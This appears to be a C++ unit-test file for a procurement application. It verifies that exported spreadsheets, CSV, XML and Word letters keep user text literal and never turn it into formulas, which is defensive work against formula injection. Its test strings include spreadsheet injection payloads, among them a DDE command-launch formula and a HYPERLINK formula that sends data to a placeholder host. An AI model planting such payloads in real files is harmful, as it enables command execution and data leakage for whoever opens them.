// Whatever a text begins with and in whatever script it is, every export tells it as it is: as a text, never
// as a formula; and every export says what it is, of whom, and since when, by the data alone.
#include "criteria/award_file.hpp"
#include "evaluator/evaluate.hpp"
#include "import/xlsx_reader.hpp"
#include "import/zip_reader.hpp"
#include "support/consultation_samples.hpp"
#include "support/dossier_builder.hpp"
#include "support/notice_samples.hpp"
#include "templates/archive_xml.hpp"
#include "templates/award_letter.hpp"
#include "templates/bid_form.hpp"
#include "templates/consultation_draft.hpp"
#include "templates/consultation_json.hpp"
#include "templates/consultation_pack.hpp"
#include "templates/eforms/notice.hpp"
#include "templates/evaluation_workbook.hpp"
#include "templates/grade_form.hpp"
#include "templates/insight_workbook.hpp"
#include "templates/library_workbook.hpp"
#include "templates/monitor_workbook.hpp"
#include "templates/promise_workbook.hpp"
#include "templates/spend_workbook.hpp"
#include "templates/template_workbook.hpp"
#include "templates/template_xml.hpp"
#include "templates/tender_document.hpp"
#include "templates/word_letter.hpp"
#include "templates/word_properties.hpp"
#include "tests/support/template_generator.hpp"
#include "tests/templates/sample_monitor.hpp"
#include "tests/templates/sample_promises.hpp"

#include <functional>

#include <gmock/gmock.h>
#include <pugixml.hpp>

namespace {

using templates::Language;

// The word by which a text is found again stands in each.
constexpr std::string_view mark = "wwtoken";
const std::string texts[]{"=wwtoken(1)",
                          "+wwtoken",
                          "-wwtoken*2",
                          "@wwtoken(A1)",
                          "  =wwtoken()",
                          "=HYPERLINK(\"http://x/?\"&wwtoken,\"y\")",
                          "=wwtoken|' /C calc'!A0",
                          "{=wwtoken(1)}",
                          "שלום עולם wwtoken",
                          "مرحبا بالعالم wwtoken",
                          "🏗️👩🏽‍🔧🇳🇱 wwtoken",
                          "e\u0301é wwtoken ﬁ Ω",
                          "<b>wwtoken</b> & \"x\" 'y' &amp; ]]>",
                          "wwtoken _x000D_ _x0041_",
                          "1.234,50 wwtoken",
                          "漢字 wwtoken 한국어"};

constexpr const char* party = "Gemeente שלום & <Zoon> 🏗️";
const criteria::Timestamp made = *criteria::Timestamp::parse("2026-11-25T09:30:15Z");

criteria::Dossier dossier_with(const std::string& text) {
  criteria::Dossier dossier = test_support::notice_dossier();
  criteria::Tender& tender = dossier.tender;
  tender.title = text;
  tender.description = text;
  tender.buyer = criteria::Buyer{party};
  for (criteria::Lot& lot : tender.lots) {
    lot.title = text;
    lot.description = text;
    lot.criteria[0].title = text;
    lot.criteria[0].criteria[0].title = text;
    lot.criteria[0].criteria[0].description = text;
  }
  for (criteria::Bid& bid : dossier.bids) bid.bidder = criteria::Bidder{text};
  return dossier;
}

struct Export {
  std::string name;
  std::string title_has;  // what stands in the title of its properties; empty: whatever
  std::string author;
  std::function<std::string(const std::string&, Language)> write;
};

std::string insight_book(const std::string& text, Language language) {
  templates::LotInsight lot;
  lot.lot = "stoelen";
  lot.title = text;
  lot.findings = {text};
  lot.changes = {{"code", text, text}};
  templates::InsightTable table;
  table.id = "t";
  table.title = text;
  table.columns = {text, "b"};
  table.rows = {
      {{text, std::nullopt, templates::InsightUnit::plain, 0}, {"1", 1.0, templates::InsightUnit::plain, 0}}};
  lot.tables = {table};
  return templates::robustness_workbook(dossier_with(text).tender, {lot}, language);
}

std::string monitor_book(const std::string& text, Language language) {
  auto report = test_support::monitor_report();
  for (auto& [id, name] : report.parties) name = text;
  for (auto& [id, title] : report.segments) title = {text, text};
  return templates::monitor_workbook(report, made, language);
}

criteria::Consultation consultation_with(const std::string& text) {
  const auto tender = test_support::secret_tender();
  auto consultation = templates::consultation_on(tender, tender.lots[0], 1,
                                                 {"beton-2027",
                                                  *criteria::Date::parse("2027-01-04"),
                                                  *criteria::Date::parse("2027-02-05"),
                                                  "inkoop@voorbeeld.nl",
                                                  {},
                                                  std::string(64, 'a')});
  consultation.title = {text, text};
  consultation.background = {text, text};
  consultation.owner = party;
  return consultation;
}

criteria::CriteriaTemplate template_with(const std::string& text) {
  auto set = test_support::generate_template(2);
  set.title = {text, text};
  set.owner = party;
  return set;
}

std::string library_book(const std::string& text, Language language) {
  criteria::LibraryCriterion criterion;
  criterion.id = "BET-G1";
  criterion.title = {text, text};
  criterion.variants = {{criteria::LibraryLevel::basic, {text, text}, std::nullopt, std::nullopt}};
  criterion.evidence = criterion.guidance = {text, text};
  criterion.sources = {text};
  criterion.review_by = *criteria::Date::parse("2027-11-01");
  return templates::library_workbook({{criterion}}, {language, made, {}});
}

std::string promise_book(const std::string& text, Language language) {
  auto promises = test_support::promise_register();
  promises.buyer = party;
  for (auto& each : promises.promises) {
    each.origin.title = text;
    each.origin.bidder = text;
    each.terms.responsible = text;
  }
  return templates::promise_workbook(promises, made, language);
}

std::vector<Export> workbooks() {
  const templates::EvaluationIdentity identity{std::string(64, 'a')};
  return {
      {"evaluation", "", party,
       [identity](const std::string& text, Language language) {
         const auto dossier = dossier_with(text);
         return templates::evaluation_workbook(dossier, *evaluator::evaluate(dossier), identity, language);
       }},
      {"tender document", "", party,
       [](const std::string& text, Language language) {
         const auto dossier = dossier_with(text);
         return templates::tender_workbook({dossier.tender, std::nullopt, made, {}, {}}, language);
       }},
      {"bid form", "", party,
       [](const std::string& text, Language language) {
         const auto dossier = dossier_with(text);
         return templates::bid_form(dossier.tender, dossier.tender.lots[0], {"1", made}, language);
       }},
      {"grade form", "", party,
       [](const std::string& text, Language language) {
         auto dossier = dossier_with(text);
         dossier.tender.lots[0].criteria[0].criteria[1].answer = criteria::GradeAnswer{};
         return templates::grade_form(dossier.tender, dossier.tender.lots[0], {{{"A", text}}, "j", {}},
                                      {"1", made}, language);
       }},
      {"insight", "", party, insight_book},
      {"monitor", "", "", monitor_book},
      {"consultation pack", "", party,
       [](const std::string& text, Language language) {
         return templates::consultation_pack(consultation_with(text), {1, std::string(64, 'a')}, language);
       }},
      {"template", mark.data(), party,
       [](const std::string& text, Language language) {
         return templates::template_workbook(template_with(text), {1, made}, language);
       }},
      {"library", "", "Wederwaarde", library_book},
      {"promises", "", party, promise_book},
      {"spend", "", "", [](const std::string& text, Language language) {
         criteria::Segment segment{"beton", text};
         segment.contracts = {
             {"gouda", text, text, std::nullopt, *criteria::Date::parse("2027-01-01"), std::nullopt}};
         return templates::spend_workbook(
             {segment}, {{"gouda", party, criteria::PartyKind::municipality, {}}}, made, language);
       }}};
}

std::string part_of(const std::string& bytes, const std::string& name) {
  const auto archive = importing::ZipArchive::open(bytes, importing::Limits{});
  if (!archive) return {};
  const auto* entry = archive->find(name);
  if (!entry) return {};
  std::string all;
  importing::ZipEntryStream stream(*archive, *entry);
  for (;;) {
    const auto piece = stream.next();
    if (!piece || piece->empty()) return all;
    all.append(*piece);
  }
}

// The elements of that name in every sheet of a workbook.
std::vector<std::string> formulas_of(const std::string& bytes) {
  std::vector<std::string> all;
  const auto archive = importing::ZipArchive::open(bytes, importing::Limits{});
  for (const auto& entry : archive->entries()) {
    if (!entry.name.starts_with("xl/worksheets/sheet")) continue;
    pugi::xml_document sheet;
    sheet.load_string(part_of(bytes, entry.name).c_str());
    for (const pugi::xpath_node& formula : sheet.select_nodes("//f"))
      all.emplace_back(formula.node().text().get());
  }
  return all;
}

bool stands_there(const importing::Workbook& workbook, const std::string& text) {
  bool found = false;
  for (const auto& sheet : workbook.sheets)
    sheet.for_each([&](importing::CellAddress, const importing::Cell& cell) {
      const bool is_text = cell.kind == importing::CellKind::text && !cell.has_formula;
      found = found || (is_text && cell.text.find(text) != std::string_view::npos);
    });
  return found;
}

TEST(ExportedTexts, AreTextInEveryWorkbook) {
  int seen = 0;
  for (const Export& each : workbooks())
    for (const std::string& text : texts)
      for (const Language language : {Language::nl, Language::en}) {
        const std::string bytes = each.write(text, language);
        const auto workbook = importing::read_xlsx(bytes, importing::Limits{});
        ASSERT_TRUE(workbook) << each.name << ": " << workbook.error().front().code;
        EXPECT_TRUE(stands_there(*workbook, text)) << each.name << ": " << text;
        for (const std::string& formula : formulas_of(bytes))
          EXPECT_THAT(formula, testing::Not(testing::HasSubstr(std::string(mark))))
              << each.name << ": " << text;
        ++seen;
      }
  EXPECT_EQ(seen, 11 * 16 * 2);
}

TEST(ExportedTexts, AWorkbookSaysWhatItIsOfWhomAndSinceWhenByItsDataAlone) {
  for (const Export& each : workbooks()) {
    const std::string bytes = each.write(texts[0], Language::nl);
    EXPECT_TRUE(bytes == each.write(texts[0], Language::nl)) << each.name;
    pugi::xml_document core;
    ASSERT_TRUE(core.load_string(part_of(bytes, "docProps/core.xml").c_str())) << each.name;
    const pugi::xml_node properties = core.document_element();
    EXPECT_STRNE(properties.child("dc:title").text().get(), "") << each.name;
    EXPECT_THAT(properties.child("dc:title").text().get(), testing::HasSubstr(each.title_has)) << each.name;
    if (each.author.empty())
      EXPECT_STRNE(properties.child("dc:creator").text().get(), "") << each.name;
    else
      EXPECT_EQ(properties.child("dc:creator").text().get(), each.author) << each.name;
    const std::string created = properties.child("dcterms:created").text().get();
    EXPECT_TRUE(criteria::Timestamp::parse(created)) << each.name << ": " << created;
    EXPECT_EQ(created, properties.child("dcterms:modified").text().get()) << each.name;
    EXPECT_NE(created.substr(0, 4), "1970") << each.name;
    EXPECT_NE(created.substr(0, 4), "2000") << each.name;
  }
}

TEST(ExportedTexts, AreTextInASpreadsheetThatReadsCommaSeparatedValues) {
  const auto csv = [](const std::string& text, Language language) {
    auto promises = test_support::promise_register();
    for (auto& each : promises.promises) each.terms.responsible = text;
    return templates::promise_csv(promises, language);
  };
  const std::pair<std::string, bool> cases[]{
      {"=1+1", true},   {"+31 6", true}, {"-5", true},       {"@SUM(A1)", true}, {"\t=1", true},
      {"\r=1", true},   {"\n=1", true},  {"  =1", true},     {"gewoon", false},  {"a=1", false},
      {"1-2", false},   {"שלום", false}, {"🏗️", false}, {"\"=1\"", false},  {"'=1", false},
      {"a;b,c", false}, {"a\nb", false}, {"＝1", false}};
  for (const auto& [text, is_dangerous] : cases)
    for (const Language language : {Language::nl, Language::en}) {
      const std::string bytes = csv(text, language);
      EXPECT_EQ(bytes, csv(text, language));
      std::string field = text;
      for (auto at = field.find('"'); at != std::string::npos; at = field.find('"', at + 2))
        field.insert(at, "\"");
      EXPECT_THAT(bytes, testing::HasSubstr((is_dangerous ? "\"'" : "\"") + field + "\"")) << text;
    }
}

TEST(ExportedTexts, AreWhatTheyAreInXml) {
  const templates::EvaluationIdentity identity{std::string(64, 'a')};
  for (const std::string& text : texts) {
    const auto dossier = dossier_with(text);
    const auto evaluation = *evaluator::evaluate(dossier);
    auto file = test_support::filled_notice_file();
    file.buyer->name = text;
    for (criteria::NoticeBidder& bidder : file.bidders) bidder.organisation.name = text;
    const auto notice = templates::notice_xml(
        {dossier.tender, file, criteria::NoticeSubtype::award, &dossier.bids, &evaluation, nullptr},
        {"c15b38c9-9a3e-443c-a703-dd742f25b4d5", "", made});
    ASSERT_TRUE(notice);
    const std::pair<const char*, std::string> documents[]{
        {"archive", templates::archive_xml(dossier, evaluation, identity)},
        {"tender", templates::tender_xml({dossier.tender, std::nullopt, made, {}, {}})},
        {"consultation", templates::consultation_xml(consultation_with(text))},
        {"template", templates::template_xml({template_with(text), 3, std::string(64, 'a'), {}})},
        {"notice", *notice}};
    for (const auto& [name, bytes] : documents) {
      pugi::xml_document document;
      ASSERT_TRUE(document.load_string(bytes.c_str())) << name << ": " << text;
      std::size_t found = 0;
      for (const pugi::xpath_node& node : document.select_nodes("//text()"))
        found += node.node().value() == text;
      EXPECT_GT(found, 0U) << name << ": " << text;
    }
  }
}

TEST(ExportedTexts, AreTextInLetters) {
  for (const std::string& text : texts) {
    const auto dossier = dossier_with(text);
    const auto evaluation = *evaluator::evaluate(dossier);
    const criteria::AwardFile file;
    const auto made_letters = templates::award_letters({dossier, evaluation, file, "", Language::nl}, 0);
    ASSERT_FALSE(made_letters.letters.empty());
    const auto form = templates::default_letter(Language::nl);
    for (const auto& letter : made_letters.letters) {
      const auto write = [&] {
        return templates::word_file(templates::with_properties(
            templates::fill_letter(form, letter.values).document, {text, party, made}));
      };
      const std::string bytes = write();
      EXPECT_TRUE(bytes == write());
      const std::string body = part_of(bytes, "word/document.xml");
      pugi::xml_document document;
      ASSERT_TRUE(document.load_string(body.c_str(), pugi::parse_default | pugi::parse_ws_pcdata)) << text;
      std::string all;
      for (const pugi::xpath_node& run : document.select_nodes("//w:t")) all.append(run.node().text().get());
      EXPECT_THAT(all, testing::HasSubstr(text));
      // Word computes what stands in these; no text becomes one.
      EXPECT_EQ(document.select_nodes("//w:instrText | //w:fldSimple").size(), 0U);
      pugi::xml_document core;
      core.load_string(part_of(bytes, "docProps/core.xml").c_str());
      EXPECT_EQ(core.document_element().child("dc:title").text().get(), text);
      EXPECT_STREQ(core.document_element().child("dc:creator").text().get(), party);
      EXPECT_EQ(core.document_element().child("dcterms:created").text().get(), made.text());
    }
  }
}

}  // namespace
